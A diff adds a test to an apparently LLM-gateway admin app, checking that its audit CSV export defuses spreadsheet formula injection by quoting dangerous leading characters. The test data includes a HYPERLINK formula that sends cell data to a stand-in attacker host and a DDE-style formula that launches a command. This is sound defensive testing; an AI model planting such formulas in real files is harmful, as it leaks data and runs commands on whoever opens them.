@@ -146,3 +146,27 @@ def test_huge_record_numbers_are_one_line_refusals(setup):
     for q in ("after_seq=" + "9" * 30, "after_seq=-1", "limit=" + "9" * 30):
         r = c.get(f"/admin/api/audit?{q}", headers=h)
         assert r.status_code in (200, 400) and ("error" in r.json() or "records" in r.json()), (q[:20], r.status_code)
+
+
+def test_the_csv_export_never_hands_a_spreadsheet_a_formula(setup):
+    """With prompt retention on, a developer's prompt (or a completion they steered) is kept verbatim; the
+    CSV export wrote '=HYPERLINK(...)' as a cell that Excel or LibreOffice runs as a formula when the admin
+    opens the file (CSV injection, OWASP): it can send other cells' audit data to a URL. A cell that starts
+    with = + - @ or a tab or carriage return now starts with a ' (OWASP's advice); JSONL keeps the text as it is."""
+    import csv
+    import io
+
+    c, _, _, admin, _ = setup
+    log = c.app.state.trust.log
+    bad = ['=HYPERLINK("http://evil.example/?"&B2,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1"]
+    log.append("request", user="alice", route="/v1/completions", status=200, prompt_text=bad[0], completion_text=bad[1])
+    for b in bad[2:]:
+        log.append("request", user="alice", route="/v1/completions", status=200, prompt_text=b)
+    assert signed_in(c, admin).status_code == 303
+    rows = list(csv.DictReader(io.StringIO(c.get("/admin/audit/export?fmt=csv").text)))
+    cells = [v for r in rows for v in r.values() if v]
+    assert not [v for v in cells if v[0] in "=+-@\t\r"], cells
+    kept = {v[1:] for v in cells if v.startswith("'")}
+    assert set(bad) <= kept, kept
+    jsonl = c.get("/admin/audit/export?fmt=jsonl").text
+    assert '"prompt_text": "=HYPERLINK(' in jsonl
